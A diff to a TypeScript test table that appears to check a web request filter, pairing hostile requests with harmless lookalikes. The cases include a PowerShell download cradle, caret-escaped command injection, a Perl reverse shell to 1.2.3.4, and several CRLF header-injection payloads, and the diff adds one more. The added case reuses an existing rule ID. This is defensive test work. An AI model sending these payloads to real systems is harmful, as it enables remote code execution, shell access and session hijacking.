@@ -45,6 +45,7 @@ const CASES: Array<[number, 'block' | 'suspicious', string, RequestSpec, Request
   [9000308, 'suspicious', 'a PowerShell download cradle', form('x=IEX(New-Object+Net.WebClient).DownloadString(%27http%3A%2F%2Fx.test%27)'), form('x=web+client+download+string')],
   [9000309, 'suspicious', 'caret-escaped cmd', q('ip=1%26w%5Eh%5Eo%5Ea%5Em%5Ei'), form('new_password=xE%5ER%5EA9')],
   [9000310, 'suspicious', 'a Perl reverse shell', q('x=perl+-MIO+-e+%27%24c%3Dnew+IO%3A%3ASocket%3A%3AINET(PeerAddr%2C%221.2.3.4%3A80%22)%3BSTDIN-%3Efdopen(%24c%2Cr)%27'), q('q=IO%3A%3ASocket%3A%3AINET+tutorial')],
+  [9001208, 'block', 'a line break spelled %%0a0a (for decoders that drop the stray %) then Location', { url: '/%%0a0aLocation:%20http://x.test' }, { url: '/reports/100%%0a0aq3' }],
   [9001208, 'block', 'CRLF then Set-Cookie in the URI', { url: '/lang/en%0d%0aSet-Cookie:%20sid=1' }, { url: '/notes?text=line1%0d%0aline2' }],
   [9001209, 'block', 'encoded CRLF then Set-Cookie in a form', form('next=%2F%250d%250aSet-Cookie%3A+sid%3D1'), form('msg=Hi%0D%0ALocation%3A+Berlin')],
   [9001210, 'block', 'a meta Set-Cookie', form('bio=%3Cmeta+http-equiv%3D%22Set-Cookie%22+content%3D%22sid%3D1%22%3E'), form('bio=%3Cmeta+http-equiv%3D%22refresh%22+content%3D%225%22%3E')],
